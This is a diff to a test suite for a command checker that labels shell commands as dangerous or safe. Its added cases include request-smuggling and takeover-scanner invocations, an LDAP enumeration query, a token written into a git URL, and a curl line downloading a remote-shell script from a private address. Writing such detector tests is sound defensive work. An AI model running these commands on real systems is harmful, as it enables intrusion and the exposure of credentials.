@@ -3883,6 +3883,28 @@ describe('the fifteen sets held out last stop and the hundred-and-sixtieth and -
     ['openocd -f interface/jlink.cfg -f target/stm32f1x.cfg', true, "attached chip's flash"],
     ['flashrom --list-supported', false],
     ['esptool read-mac', false],
+    // Hosts named as the target, by a name or a cheat sheet's variable, whatever the program.
+    ['smugglex -c cl-te https://target.com', true, "attacker's or the victim's"],
+    ['ldapsearch -H "ldap://$TARGET" -x -b "DC=DOMAIN,DC=LOCAL"', true, "attacker's or the victim's"],
+    ['tar czf path/to/target.tar.gz src', false],
+    ['cargo build --target $TARGET', false],
+    // Surge deploys; its lists read. A scanner named for taking over or defacing sites, given one.
+    ['npx surge docs/.vitepress/dist', true, 'changes infrastructure'],
+    ['surge list', false],
+    ['python3 takeover.py -d www.domain.com -v', true, 'named for scanning or attacking'],
+    // Assignments that run a build as root or tell it to publish; a skip is none.
+    ['SUDO=sudo make install', true, 'run as root'],
+    ['DOCKER_PUSH=true make image', true, 'push, publish or deploy'],
+    ['echo "SKIP_DEPLOY=true" >> $GITHUB_ENV', false],
+    ['LD_LIBRARY_PATH=/tmp ./binary_name', true, 'shared temporary directory'],
+    ['LD_LIBRARY_PATH=./lib ./binary_name', false],
+    // A token written into a URL.
+    ['git clone https://user: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@github.com/user/repo.git', true, 'token written into a URL'],
+    ['git clone https://github.com/user/repo.git', false],
+    // A script handed a whole command line runs it; printed, it is text.
+    ['sh undock.sh "curl -sL http://10.0.0.127:8000/rshell.sh -o /tmp/rshell.sh"', true, 'named only by its address'],
+    ['./run-in-vm.sh "python3 -m pytest -q"', false],
+    ["echo 'rm -rf /'", false],
   ] as [string, boolean, string?][])('%s → dangerous %s', (cmd, dangerous, reason) => {
     const r = checkCommand(cmd, WS);
     expect(r.dangerous, r.reasons.join('; ')).toBe(dangerous);
